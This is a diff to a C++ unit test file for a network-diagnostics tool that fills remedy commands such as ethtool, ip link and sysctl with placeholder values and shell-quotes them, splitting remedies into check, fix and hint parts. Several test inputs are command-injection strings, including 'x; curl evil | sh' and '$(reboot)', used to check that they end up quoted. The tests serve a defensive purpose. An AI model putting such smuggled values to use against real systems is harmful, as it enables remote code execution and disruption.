@@ -5,27 +5,32 @@
 namespace rigproof {
 namespace {
 
-std::string filled(std::string_view remedy, const RemedyValues& values) {
-  return to_text(fill_placeholders(parse_remedy(remedy), values));
+// A command and a hint; empty: none.
+std::string filled(std::string_view command, const RemedyValues& values) {
+  return fill_placeholders({.fix = {std::string(command)}}, values).fix.at(0);
+}
+std::string filled_hint(std::string_view hint, const RemedyValues& values) {
+  return fill_placeholders({.hint = {std::string(hint)}}, values).hint.at(0);
 }
 
-TEST(Remedy, HasItsRemarkApart) {
-  EXPECT_EQ(parse_remedy("ethtool {netdev}  # then the cable # of {node}"),
-            (Remedy{"ethtool {netdev}", "then the cable # of {node}"}));
-  EXPECT_EQ(parse_remedy("look"), (Remedy{"look"}));
-  EXPECT_EQ(to_text(Remedy{"look", "closely"}), "look # closely");
-  EXPECT_EQ(to_text(Remedy{"look"}), "look");
-  EXPECT_EQ(to_text(Remedy{"", "closely"}), "# closely");
+TEST(Remedy, IsOneLineInATable) {
+  EXPECT_EQ(to_text(Remedy{.check = {"ethtool eth0", "lspci"}, .fix = {"reboot"}, .hint = {"Then wait."}}),
+            "check: ethtool eth0; check: lspci; fix: reboot; Then wait.");
+  EXPECT_EQ(to_text(Remedy{}), "");
+}
+TEST(Remedy, EachOfItsCommandsIsFilledOnItsOwn) {
+  const Remedy remedy{.check = {"echo '", "ls {netdev}"}, .fix = {"rm {netdev}"}, .hint = {"{netdev}?"}};
+  EXPECT_EQ(fill_placeholders(remedy, {{"netdev", "a b"}}),
+            (Remedy{.check = {"echo '", "ls 'a b'"}, .fix = {"rm 'a b'"}, .hint = {"a b?"}}));
 }
 TEST(Remedy, OrdinaryValuesStandAsTheyAre) {
   EXPECT_EQ(filled("ip link set {netdev} mtu {mtu}", {{"netdev", "eth0"}, {"mtu", "9000"}}),
             "ip link set eth0 mtu 9000");
-  EXPECT_EQ(filled("for n in {netdevs}; do ethtool $n; done # {here} here, {there} on {others}",
-                   {{"netdevs", "enp1s0f0np0 enP2p1s0f0np0"},
-                    {"here", "6.1.0 (x)"},
-                    {"there", "4096\t87380"},
-                    {"others", "node-b"}}),
-            "for n in enp1s0f0np0 enP2p1s0f0np0; do ethtool $n; done # 6.1.0 (x) here, 4096 87380 on node-b");
+  EXPECT_EQ(filled("for n in {netdevs}; do ethtool $n; done", {{"netdevs", "enp1s0f0np0 enP2p1s0f0np0"}}),
+            "for n in enp1s0f0np0 enP2p1s0f0np0; do ethtool $n; done");
+  EXPECT_EQ(filled_hint("{here} here, {there} on {others}",
+                        {{"here", "6.1.0 (x)"}, {"there", "4096\t87380"}, {"others", "node-b"}}),
+            "6.1.0 (x) here, 4096 87380 on node-b");
   EXPECT_EQ(filled("sudo sysctl -w {sysctl}='{wanted}'",
                    {{"sysctl", "net.ipv4.tcp_rmem"}, {"wanted", "4096 131072 6291456"}}),
             "sudo sysctl -w net.ipv4.tcp_rmem='4096 131072 6291456'");
@@ -38,11 +43,10 @@ TEST(Remedy, OrdinaryValuesStandAsTheyAre) {
 TEST(Remedy, AValueIsOneWordOfTheShell) {
   EXPECT_EQ(filled("ping -I {netdev} {peer}", {{"netdev", "x; curl evil | sh"}, {"peer", "it's"}}),
             R"(ping -I 'x; curl evil | sh' 'it'\''s')");
-  EXPECT_EQ(filled("cat {file} # of {node}", {{"file", "a # b"}, {"node", "node-a"}}),
-            "cat 'a # b' # of node-a");
+  EXPECT_EQ(filled("cat {file}", {{"file", "a # b"}}), "cat 'a # b'");
   EXPECT_EQ(filled("for n in {netdevs}; do", {{"netdevs", "a $(reboot) b;c"}}),
             "for n in a '$(reboot)' 'b;c'; do");
-  EXPECT_EQ(filled("look # {here} here", {{"here", "x\n; reboot"}}), R"(look # 'x\x0A; reboot' here)");
+  EXPECT_EQ(filled_hint("{here} here", {{"here", "x\n; reboot"}}), R"('x\x0A; reboot' here)");
 }
 // In quotes, which another shell may read again, in arithmetic and for a program that would take it for an option.
 TEST(Remedy, AValueThatCannotBeTypedThereIsAWordInCapitals) {
